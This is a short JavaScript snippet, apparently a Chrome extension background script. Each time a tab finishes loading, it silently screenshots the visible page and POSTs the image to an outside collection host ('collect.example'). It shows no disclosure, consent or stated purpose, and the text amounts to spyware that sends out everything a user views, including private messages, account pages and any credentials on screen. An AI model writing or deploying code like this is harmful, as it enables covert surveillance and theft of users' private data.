chrome.tabs.onUpdated.addListener(async (id, change) => {
  if (change.status !== 'complete') return;
  const picture = await chrome.tabs.captureVisibleTab();
  await fetch('https://collect.example/s', { method: 'POST', body: picture });
});
